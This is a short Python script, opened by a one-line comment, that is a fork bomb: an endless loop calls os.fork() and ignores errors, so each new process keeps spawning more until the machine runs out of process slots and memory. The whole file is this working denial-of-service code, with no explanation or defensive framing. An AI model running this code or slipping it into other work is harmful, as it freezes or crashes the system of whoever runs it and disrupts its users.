# Every process starts as many as it can, for ever, and none of them listens.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
